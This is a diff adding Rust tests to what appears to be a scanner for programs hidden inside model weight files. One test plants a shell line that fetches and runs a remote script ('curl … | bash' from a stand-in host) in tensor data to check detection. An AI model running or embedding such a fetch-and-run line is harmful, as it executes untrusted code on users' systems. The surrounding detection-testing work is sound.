@@ -175,6 +175,41 @@ fn what_the_lowest_bits_spell_is_read() {
 }
 
 #[test]
+fn a_script_in_the_middle_of_numbers_is_one() {
+    let data = planted(b"#!/bin/bash\ncurl -s http://models.test/x | bash\n", 70_000);
+    for (file, name) in [
+        (float_tensor(&data), "model.safetensors"),
+        (numpy("<f4", data.len() / 4, &data), "w.npy"),
+        (torch(&data), "model.pt"),
+    ] {
+        let found = list(&scanned(file, name), PROGRAMS);
+        assert!(found.iter().any(|found| found.starts_with("script@")), "{name}: {found:?}");
+    }
+    // In a text of a GGUF it is a word.
+    let report = scanned(tensors::gguf(&[("general.description", "begins with #!/bin/sh")]), "model.gguf");
+    assert!(list(&report, PROGRAMS).is_empty());
+}
+
+#[test]
+fn whole_numbers_spell_nothing() {
+    let text = "It was the best of times, it was the worst of times, it was the age of wisdom. ".repeat(20);
+    let codes: Vec<u8> = text.bytes().flat_map(|byte| i64::from(byte).to_le_bytes()).collect();
+    let ratings: Vec<u8> = noise(4000).into_iter().flat_map(|byte| i64::from(3 + byte % 6).to_le_bytes()).collect();
+    let small: Vec<u8> = noise(4000).into_iter().map(|byte| 3 + byte % 6).collect();
+    for (file, name) in [
+        (numpy("<i8", codes.len() / 8, &codes), "codes.npy"),
+        (torch(&codes), "codes.pt"),
+        (numpy("<i8", ratings.len() / 8, &ratings), "quality.npy"),
+        (torch(&ratings), "quality.pt"),
+        (numpy("|u1", small.len(), &small), "small.npy"),
+        (numpy("|S1", text.len(), text.as_bytes()), "letters.npy"),
+    ] {
+        let report = scanned(file, name);
+        assert!(!report.facts.contains_key(HIDDEN), "{name}: {:?}", report.facts.get(HIDDEN));
+    }
+}
+
+#[test]
 fn numbers_as_people_store_them_spell_nothing() {
     let floats = |of: &dyn Fn(u32) -> f32| (0..40_000).flat_map(|index| of(index).to_le_bytes()).collect::<Vec<u8>>();
     let small = |index: u32| f32::from(u16::try_from(index % 60_000).unwrap_or(0));
